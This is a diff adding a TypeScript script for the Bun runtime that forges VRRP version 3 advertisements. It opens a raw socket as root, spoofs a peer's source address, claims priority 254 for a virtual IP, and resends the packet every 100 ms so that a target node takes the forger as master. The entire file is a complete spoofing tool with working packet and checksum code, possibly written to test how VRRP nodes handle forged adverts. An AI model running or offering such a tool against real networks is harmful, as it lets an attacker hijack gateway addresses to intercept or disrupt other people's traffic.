@@ -1,0 +1,73 @@
+/**
+ * Forged advertisements of VRRP: `bun advert-client.ts PLAN-AS-JSON`, run as root where the forger is. Sends one every 100 ms with the
+ * source address of a peer, in the form of RFC 9568 (5.2).
+ */
+import { dlopen, FFIType, ptr } from "bun:ffi";
+
+export type AdvertPlan = {
+  /** The node that is to believe it, and the peer that it pretends to be. */
+  readonly to: string;
+  readonly from: string;
+  readonly vip: string;
+  readonly vrid: number;
+  readonly ttl: number;
+  readonly seconds: number;
+};
+
+/** The highest that a node without the address of its own may have. */
+const PRIORITY = 254;
+const VRRP = 112;
+const EVERY_MS = 100;
+
+if (import.meta.main) {
+  const plan = JSON.parse(process.argv[2] ?? "") as AdvertPlan;
+  const { symbols } = dlopen("libc.so.6", {
+    socket: { args: [FFIType.i32, FFIType.i32, FFIType.i32], returns: FFIType.i32 },
+    sendto: {
+      args: [FFIType.i32, FFIType.ptr, FFIType.u64, FFIType.i32, FFIType.ptr, FFIType.u32],
+      returns: FFIType.i64,
+    },
+  });
+  const [AF_INET, SOCK_RAW, IPPROTO_RAW] = [2, 3, 255];
+  const socket = symbols.socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
+  if (socket < 0) throw new Error("no raw socket: not root");
+  const place = new Uint8Array(16);
+  place[0] = AF_INET;
+  place.set(octets(plan.to), 4);
+  const packet = advert(plan);
+  const began = performance.now();
+  let sent = 0;
+  while (performance.now() - began < plan.seconds * 1000) {
+    if (symbols.sendto(socket, ptr(packet), packet.length, 0, ptr(place), 16) > 0) sent++;
+    await Bun.sleep(EVERY_MS);
+  }
+  process.stdout.write(`${sent}\n`);
+}
+
+/** An IPv4 packet with an advertisement of VRRP 3; the kernel fills the IP checksum in (raw(7)). */
+function advert({ from, to, vip, vrid, ttl }: AdvertPlan): Uint8Array {
+  const packet = new Uint8Array(32);
+  const view = new DataView(packet.buffer);
+  view.setUint8(0, 0x45);
+  view.setUint16(2, packet.length);
+  view.setUint8(8, ttl);
+  view.setUint8(9, VRRP);
+  packet.set(octets(from), 12);
+  packet.set(octets(to), 16);
+  view.setUint8(20, 0x31);
+  view.setUint8(21, vrid);
+  view.setUint8(22, PRIORITY);
+  view.setUint8(23, 1);
+  view.setUint16(24, 100);
+  packet.set(octets(vip), 28);
+  // With the pseudo header: addresses, protocol and length.
+  let sum = VRRP + (packet.length - 20);
+  for (let at = 12; at < packet.length; at += 2) sum += view.getUint16(at);
+  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >>> 16);
+  view.setUint16(26, ~sum & 0xffff);
+  return packet;
+}
+
+function octets(address: string): number[] {
+  return address.split(".").map(Number);
+}
